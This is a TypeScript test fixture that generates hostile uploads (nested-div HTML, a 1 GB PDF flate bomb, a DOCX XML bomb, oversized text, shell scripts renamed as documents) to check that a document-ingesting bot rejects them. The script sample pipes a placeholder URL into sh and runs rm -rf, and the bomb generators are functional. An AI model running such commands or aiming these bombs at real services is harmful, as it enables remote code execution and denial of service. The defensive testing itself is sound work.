import { createDeflate } from "node:zlib";
import { buildDocx, buildRawPdf, documentXml } from "../unit/ingest/builders.js";

/**
 * Hostile files, made at test time (none is committed): each one stopped or crashed the
 * bot before parsing was isolated and capped (issue 16). The hostile-file tests and
 * `npm run bench -- hostile` use the same set.
 */
export interface HostileFile {
  /** What it is, for test names and the benchmark's table. */
  name: string;
  fileName: string;
  bytes: Uint8Array;
  /** The IngestError code expected, or null when the file is accepted within its budget. */
  expect: string | null;
}

/** Vietnamese words, for texts that are real words but far too many of them. */
const WORDS =
  "cán bộ đảng viên thực hiện nhất thể hóa chức danh bí thư chủ tịch ủy ban nhân dân xã huyện tỉnh quy định hướng dẫn".split(
    " ",
  );

/** A text of about `bytes` UTF-8 bytes of Vietnamese words; one line when `oneLine`. */
export function wordsText(bytes: number, oneLine = false): string {
  // A block of sentences repeated: building megabytes word by word costs the test
  // process hundreds of megabytes, which would blur the bot's own memory measure.
  const parts: string[] = [];
  for (let i = 0; i < 4000; i++) {
    parts.push(WORDS[(i * 7 + (i >> 3)) % WORDS.length]!, !oneLine && i % 20 === 19 ? ".\n" : " ");
  }
  const block = parts.join("");
  const times = Math.max(1, Math.floor(bytes / Buffer.byteLength(block)));
  return block.repeat(times);
}

/** `depth` nested `<div>`s around one sentence. */
export function nestedHtml(depth: number): Uint8Array {
  const html = `<!doctype html><html><head><title>Lồng nhau</title></head><body>${"<div>".repeat(depth)}<p>Cán bộ thực hiện nhất thể hóa chức danh ở xã.</p>${"</div>".repeat(depth)}</body></html>`;
  return new TextEncoder().encode(html);
}

/** Deflates `size` zeros as one zlib stream without holding them in memory. */
async function deflateZeros(size: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on("data", (b: Buffer) => out.push(b));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on("end", resolve);
    deflate.on("error", reject);
  });
  const block = Buffer.alloc(1024 * 1024);
  for (let left = size; left > 0; left -= block.length) {
    const piece = left >= block.length ? block : block.subarray(0, left);
    if (!deflate.write(piece)) await new Promise((r) => deflate.once("drain", r));
  }
  deflate.end();
  await done;
  return Buffer.concat(out);
}

/** A one-page PDF whose content stream inflates to `inflated` bytes (zeros). */
export async function pdfFlateBomb(inflated: number): Promise<Uint8Array> {
  const data = await deflateZeros(inflated);
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
  ];
  let head = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(head.length);
    head += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  offsets.push(head.length);
  head += `4 0 obj\n<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`;
  const body = Buffer.concat([
    Buffer.from(head, "latin1"),
    data,
    Buffer.from("\nendstream\nendobj\n", "latin1"),
  ]);
  let xref = "xref\n0 5\n0000000000 65535 f \n";
  for (const o of offsets) xref += `${String(o).padStart(10, "0")} 00000 n \n`;
  xref += `trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
  return new Uint8Array(Buffer.concat([body, Buffer.from(xref, "latin1")]));
}

/** A PDF of `pages` pages, each with its own short content stream of real words. */
export function manyPagePdf(pages: number): Uint8Array {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, i) => `${4 + 2 * i} 0 R`).join(" ")}] /Count ${pages} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  for (let i = 0; i < pages; i++) {
    const text = `Dieu ${i + 1}. Can bo thuc hien nhat the hoa chuc danh o xa so ${i + 1} theo quy dinh.`;
    const content = `BT /F1 12 Tf 72 720 Td (${text}) Tj ET`;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${5 + 2 * i} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    );
  }
  return buildRawPdf(objects);
}

/** A small DOCX whose document.xml is `xmlBytes` of tiny paragraphs: under the ratio rule's 10 MB. */
export async function docxXmlBomb(xmlBytes: number): Promise<Uint8Array> {
  const paragraph = "<w:p><w:r><w:t>a</w:t></w:r></w:p>";
  const xml = documentXml(["Văn bản"]).replace(
    "</w:body>",
    `${paragraph.repeat(Math.ceil(xmlBytes / paragraph.length))}</w:body>`,
  );
  return buildDocx([], { "word/document.xml": xml });
}

const SCRIPT = `#!/bin/sh
# cài đặt
set -e
curl -fsSL http://example.invalid/x.sh | sh
rm -rf /tmp/cache && echo "xong"
for f in *.txt; do cat "$f"; done
`;

/** The whole hostile set; the large ones are built lazily by the caller's choice. */
export async function hostileFiles(options: { fiftyMegabytes?: boolean } = {}): Promise<HostileFile[]> {
  const text = (s: string) => new TextEncoder().encode(s);
  const files: HostileFile[] = [
    {
      name: "HTML, 10,000 nested div",
      fileName: "long-nhau-10k.html",
      bytes: nestedHtml(10_000),
      expect: "html_too_deep",
    },
    {
      name: "HTML, 100,000 nested div",
      fileName: "long-nhau-100k.html",
      bytes: nestedHtml(100_000),
      expect: "html_too_deep",
    },
    {
      name: "PDF flate bomb (1 GB inflated)",
      fileName: "bom.pdf",
      bytes: await pdfFlateBomb(1024 ** 3),
      expect: "pdf_inflate_bomb",
    },
    {
      name: "DOCX, 8 MB XML under the ratio rule",
      fileName: "bom-xml.docx",
      bytes: await docxXmlBomb(8 * 1024 * 1024),
      expect: "docx_too_complex",
    },
    { name: "PDF, 30,000 pages", fileName: "30000-trang.pdf", bytes: manyPagePdf(30_000), expect: null },
    {
      name: "10 MB without spaces",
      fileName: "khong-cach.txt",
      bytes: text("đầu".repeat(2_000_000)),
      expect: "too_long",
    },
    {
      // Under the length cap: the line cap must let the word rules see it, no regex overflow.
      name: "4.8 MB without spaces (2.9 M characters)",
      fileName: "khong-cach-2.txt",
      bytes: text("đầu".repeat(966_000)),
      expect: "too_few_words",
    },
    {
      name: "10 MB of words on one line",
      fileName: "mot-dong.txt",
      bytes: text(wordsText(10 * 1024 * 1024, true)),
      expect: "too_long",
    },
    {
      name: "2.5 MB of words on one line",
      fileName: "mot-dong-2.txt",
      bytes: text(wordsText(2.5 * 1024 * 1024, true)),
      expect: null,
    },
    ...["txt", "md", "html", "pdf", "docx"].map((ext) => ({
      name: `shell script as .${ext}`,
      fileName: `cai-dat.${ext}`,
      bytes: text(SCRIPT),
      expect: "script",
    })),
    ...["a", "1", ".", "<", "\n"].map((c, i) => ({
      name: `1-byte file ${JSON.stringify(c)}`,
      fileName: `mot-byte-${i}.txt`,
      bytes: text(c),
      expect: c.trim() ? "too_few_words" : "empty",
    })),
  ];
  if (options.fiftyMegabytes) {
    const bytes = text(wordsText(50 * 1024 * 1024 - 16));
    files.push({ name: "50 MB text at the limit", fileName: "50mb.txt", bytes, expect: "too_long" });
  }
  return files;
}
